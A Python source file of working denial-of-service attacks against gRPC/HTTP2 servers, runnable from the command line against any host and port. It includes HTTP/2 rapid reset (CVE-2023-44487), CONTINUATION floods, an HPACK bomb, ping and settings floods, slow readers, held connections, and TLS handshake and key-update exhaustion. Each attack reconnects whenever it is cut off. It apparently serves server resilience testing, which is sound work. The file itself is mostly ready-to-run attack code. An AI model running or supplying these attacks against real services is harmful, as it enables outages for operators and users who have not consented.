#!/usr/bin/env python3
"""Attackers of a gRPC server, one function for each way: ATTACKS[name](target, stop) goes on, coming
back as often as it is cut off, until the event `stop` is set, and returns what it did as an Outcome. To
keep them out of a measurement, run them as a process: attackers.py NAME HOST PORT [--tls] says
"attacking" and ends at SIGTERM, or with its standard input, with the outcome as one line of JSON."""

import argparse
import ctypes
import dataclasses
import json
import os
import random
import select
import signal
import socket
import ssl
import sys
import threading

from h2_raw import (CONTINUATION, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, WINDOW_UPDATE, block, data, frame, frames,
                    hello, message, settings)

CALM = b"\0\0\0\x0b"  # ENHANCE_YOUR_CALM
WIDE = 0x7fffffff  # the largest window
ROUND = 100  # requests to a script's piece


@dataclasses.dataclass
class Target:
    host: str
    port: int
    tls: ssl.SSLContext = None  # None: cleartext
    source: str = ""  # the address to come from; empty: any
    path: str = "/v1.Node/GetStatus"
    greedy_path: str = "/v1.Node/GetStatus"  # a method, and a request of it, with as much of an answer as there is
    greedy: bytes = b""

    def connect(self, timeout=2.0):
        """A connection that carries plaintext of HTTP/2."""
        s = socket.create_connection((self.host, self.port), timeout=timeout, source_address=(self.source, 0))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return s if self.tls is None else self.tls.wrap_socket(s)


@dataclasses.dataclass
class Outcome:
    connections: int = 0
    cut_off: int = 0  # of them, by the server
    calmed: int = 0  # of these, with a GOAWAY that says why
    sent: int = 0  # bytes, inside TLS


def any_tls():
    """A client's context that believes every server."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


class Wire:
    """A connection that is written to as fast as it takes bytes, and read (or not) meanwhile."""

    def __init__(self, target, outcome, read=True):
        self.outcome, self.read, self.tail, self.raw = outcome, read, b"", None
        self.s = target.connect()
        self.s.setblocking(False)
        outcome.connections += 1

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.s.close()

    def drain(self):
        """Reads what is there; ConnectionError at the server's end."""
        try:
            while True:
                got = self.s.recv(65536)
                if not got:
                    raise ConnectionResetError
                self.tail = (self.tail + got)[-64:]
                if self.raw is not None:
                    self.raw += got
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass

    def write(self, raw, stop):
        """All of raw, unless `stop` is set first."""
        left = memoryview(raw)
        while left and not stop.is_set():
            try:
                n = self.s.send(left)
                self.outcome.sent += n
                left = left[n:]
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                select.select([self.s] if self.read else [], [self.s], [], 0.1)
            if self.read:
                self.drain()

    def window_given(self, stop):
        """How much more the server has let us send on the connection; waits until there is some."""
        given = 0
        while given == 0 and not stop.is_set():
            self.hold(stop, 0.1)
            for kind, _, stream, payload in frames(self.raw):
                self.raw = self.raw[9 + len(payload):]
                given += int.from_bytes(payload, "big") if (kind, stream) == (WINDOW_UPDATE, 0) else 0
        return given

    def hold(self, stop, seconds):
        """Stays connected, reading or not."""
        if self.read:
            select.select([self.s], [], [], seconds)
            self.drain()
        else:
            stop.wait(seconds)


def again(target, stop, work, read=True):
    """A connection for work(wire) after the other."""
    outcome = Outcome()
    while not stop.is_set():
        wire = None
        try:
            with Wire(target, outcome, read) as wire:
                work(wire)
        except (OSError, ssl.SSLError):
            outcome.cut_off += wire is not None
            outcome.calmed += wire is not None and CALM in wire.tail
            stop.wait(0 if wire is not None else 0.05)
    return outcome


def pour(target, stop, opening, piece, read=True):
    """`opening`, then piece(0), piece(1) ... on each connection; the pieces are made once."""
    made = []

    def work(wire):
        wire.write(opening, stop)
        i = 0
        while not stop.is_set():
            if i == len(made):
                made.append(piece(i))
            wire.write(made[i], stop)
            i += 1

    return again(target, stop, work, read)


def hold_many(target, stop, count, opening, drip=None):
    """`count` connections at a time; each says `opening`, and drip(i) twice a second."""
    outcome, wires = Outcome(), []
    i = 0

    def touch(wire, raw):
        try:
            wire.write(raw, stop)
            wire.drain()
            return True
        except (OSError, ssl.SSLError):
            outcome.cut_off += 1
            wire.s.close()
            return False

    while not stop.is_set():
        wires = [w for w in wires if touch(w, drip(i) if drip else b"")]
        while len(wires) < count and not stop.is_set():
            try:
                wire = Wire(target, outcome)
            except OSError:
                break
            if touch(wire, opening):
                wires.append(wire)
        i += 1
        stop.wait(0.5)
    for wire in wires:
        wire.s.close()
    return outcome


def request_block(target, path=None):
    return block([(":method", "POST"), (":scheme", "http"), (":path", path or target.path), (":authority", "x"),
                  ("content-type", "application/grpc"), ("te", "trailers")])


def streams(i):
    return range(2 * ROUND * i + 1, 2 * ROUND * (i + 1), 2)


# ---- frames that carry nothing ----


def rapid_reset(target, stop):
    """CVE-2023-44487: streams that are reset as soon as they are opened."""
    fields = request_block(target)
    return pour(target, stop, hello(), lambda i: b"".join(
        frame(HEADERS, END_HEADERS, s, fields) + frame(RST_STREAM, 0, s, b"\0\0\0\x08") for s in streams(i)))


def made_resets(target, stop):
    """CVE-2025-8671: mistakes that make the server reset the streams."""
    fields = request_block(target)
    return pour(target, stop, hello(), lambda i: b"".join(
        frame(HEADERS, END_HEADERS, s, fields) + frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff") for s in streams(i)))


def pings(target, stop):
    """CVE-2019-9512."""
    piece = frame(PING, 0, 0, b"12345678") * 1000
    return pour(target, stop, hello(), lambda i: piece)


def many_settings(target, stop):
    """CVE-2019-9515."""
    piece = settings((4, 70000), (3, 7)) * 1000
    return pour(target, stop, hello(), lambda i: piece)


def priorities(target, stop):
    """CVE-2019-9513."""
    return pour(target, stop, hello(), lambda i: b"".join(
        frame(PRIORITY, 0, s, (s - 2 if s > 1 else 0).to_bytes(4, "big") + b"\x10") for s in streams(i)))


def empty_data(target, stop):
    """CVE-2019-9518."""
    opening = hello() + frame(HEADERS, END_HEADERS, 1, request_block(target))
    piece = data(1, b"", False) * 1000
    return pour(target, stop, opening, lambda i: piece)


def window_updates(target, stop):
    piece = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000
    return pour(target, stop, hello(), lambda i: piece)


def unknown_frames(target, stop):
    """Frames of a type that nobody knows, which are to be passed over."""
    piece = frame(0xbb, 0, 0, b"") * 1000
    return pour(target, stop, hello(), lambda i: piece)


# ---- headers ----


def continuations(target, stop):
    """CVE-2024-27316: a block of headers that goes on and on, in frames without a byte."""
    opening = hello() + frame(HEADERS, 0, 1, request_block(target))
    piece = frame(CONTINUATION, 0, 1, b"") * 1000
    return pour(target, stop, opening, lambda i: piece)


def large_headers(target, stop):
    """The same, in frames as large as they may be."""
    opening = hello() + frame(HEADERS, 0, 1, request_block(target))
    return pour(target, stop, opening, lambda i: frame(CONTINUATION, 0, 1, block([(f"x-{i}", "v" * 16000)])))


def hpack_bomb(target, stop):
    """CVE-2016-6581: one large field in the table, named thousands of times with a byte each."""
    large = b"\x40" + b"\x06x-bomb" + b"\x7f" + bytes([4000 - 127 & 127 | 128, 4000 - 127 >> 7]) + b"v" * 4000
    fields = request_block(target)
    return pour(target, stop, hello() + frame(HEADERS, END_HEADERS, 1, fields + large), lambda i: b"".join(
        frame(HEADERS, END_HEADERS, s + 2, fields + b"\xbe" * 12000) for s in streams(i)))


def slow_headers(target, stop):
    """Many connections, each in the middle of a block that never ends."""
    return hold_many(target, stop, 200, hello() + frame(HEADERS, 0, 1, request_block(target)),
                     lambda i: frame(CONTINUATION, 0, 1, b"") if i % 4 == 3 else b"")


# ---- readers that do not read ----


def slow_reader(target, stop):
    """Asks for all there is on many streams of several connections, and takes nothing."""
    outcome, wires = Outcome(), []
    ask = b"".join(frame(HEADERS, END_HEADERS, s, request_block(target, target.greedy_path)) +
                   data(s, message(target.greedy)) for s in streams(0))
    wide = hello((4, WIDE)) + frame(WINDOW_UPDATE, 0, 0, (WIDE - 65535).to_bytes(4, "big"))
    while not stop.is_set():
        try:
            if len(wires) < 8:
                wires.append(Wire(target, outcome, read=False))
                wires[-1].write(wide + ask, stop)
        except OSError:
            outcome.cut_off += 1
        stop.wait(0.1)
    for wire in wires:
        wire.s.close()
    return outcome


def data_dribble(target, stop):
    """CVE-2019-9511: opens its window byte by byte, so that answers leave in frames of one."""
    opening = hello((4, 0)) + b"".join(frame(HEADERS, END_HEADERS, s, request_block(target, target.greedy_path)) +
                                       data(s, message(target.greedy)) for s in streams(0))
    piece = b"".join(frame(WINDOW_UPDATE, 0, s, b"\0\0\0\1") for s in streams(0)) * 10
    return pour(target, stop, opening, lambda i: piece)


def unread_refusals(target, stop):
    """Streams above the limit, whose refusals it leaves unread."""
    fields = request_block(target)
    return pour(target, stop, hello(), lambda i: b"".join(frame(HEADERS, END_HEADERS, s, fields) for s in streams(i)),
                read=False)


def unread_pings(target, stop):
    piece = frame(PING, 0, 0, b"12345678") * 1000
    return pour(target, stop, hello(), lambda i: piece, read=False)


# ---- messages ----


def endless_messages(target, stop):
    """Streams that each announce 4 MiB and fill the window they are given, never to end: 32 MiB and more."""
    every = range(1, 2 * 256 + 1, 2)
    start = b"".join(frame(HEADERS, END_HEADERS, s, request_block(target)) + data(s, message(b"", length=4 << 20), False)
                     for s in every)

    def work(wire):
        wire.raw = b""
        wire.write(hello() + start, stop)
        window = 65535 - 5 * len(every)
        for _ in range(8):
            for s in every:
                window -= 16000
                while window < 0 and not stop.is_set():
                    window += wire.window_given(stop)
                wire.write(data(s, b"x" * 16000, False), stop)
        while not stop.is_set():
            wire.hold(stop, 0.2)

    return again(target, stop, work)


# ---- connections ----


def connects(target, stop):
    """Connects and goes, as fast as it can."""
    bare = dataclasses.replace(target, tls=None)
    return again(bare, stop, lambda wire: None)


def idle_connections(target, stop):
    """Greets, and stays without a word."""
    return hold_many(target, stop, 300, hello())


def random_bytes(target, stop):
    rng = random.Random(1)
    return pour(target, stop, hello(), lambda i: rng.randbytes(1000))


def half_open_tls(target, stop):
    """Half of a TLS handshake, many times."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        any_tls().wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    first = outgoing.read()
    return hold_many(dataclasses.replace(target, tls=None), stop, 300, first)


def tls_handshakes(target, stop):
    """Whole handshakes, which cost the server a signature each."""
    return again(target, stop, lambda wire: None)


def key_updates(target, stop):
    """Asks for new keys all the time."""
    def work(wire):
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = target.tls.wrap_bio(incoming, outgoing)
        wire.read = False
        while not stop.is_set():
            try:
                tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                wire.write(outgoing.read(), stop)
                select.select([wire.s], [], [], 1)
                incoming.write(wire.s.recv(65536))
        tls.write(hello())
        wire.read = True
        while not stop.is_set():
            update_keys(tls, 200)
            wire.write(outgoing.read(), stop)

    return again(dataclasses.replace(target, tls=None), stop, work)


def update_keys(tls, times):
    """Python's ssl has no name for it: the SSL follows the object's head and its socket."""
    handle = ctypes.c_void_p.from_address(id(tls._sslobj) + 3 * ctypes.sizeof(ctypes.c_void_p))
    library = ctypes.CDLL("libssl.so.3")
    for _ in range(times):
        assert library.SSL_key_update(handle, 1) == 1 and library.SSL_do_handshake(handle) == 1


ATTACKS = {f.__name__: f for f in (
    rapid_reset, made_resets, pings, many_settings, priorities, empty_data, window_updates, unknown_frames, continuations,
    large_headers, hpack_bomb, slow_headers, slow_reader, data_dribble, unread_refusals, unread_pings, endless_messages,
    connects, idle_connections, random_bytes)}
TLS_ATTACKS = {f.__name__: f for f in (half_open_tls, tls_handshakes, key_updates)}  # their target has a TLS context


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=[*ATTACKS, *TLS_ATTACKS])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--source", default="", help="the address to come from")
    parser.add_argument("--greedy-path", default=Target.greedy_path)
    parser.add_argument("--greedy", default="", help="the request to it, in hexadecimal")
    options = parser.parse_args()
    tls = any_tls() if options.tls or options.name in TLS_ATTACKS else None
    target = Target(options.host, options.port, tls, options.source, greedy_path=options.greedy_path, greedy=bytes.fromhex(options.greedy))
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    print("attacking", flush=True)
    outcome = {**ATTACKS, **TLS_ATTACKS}[options.name](target, stop)
    print(json.dumps(dataclasses.asdict(outcome)), flush=True)
    os._exit(0)  # past the thread that still reads


if __name__ == "__main__":
    main()
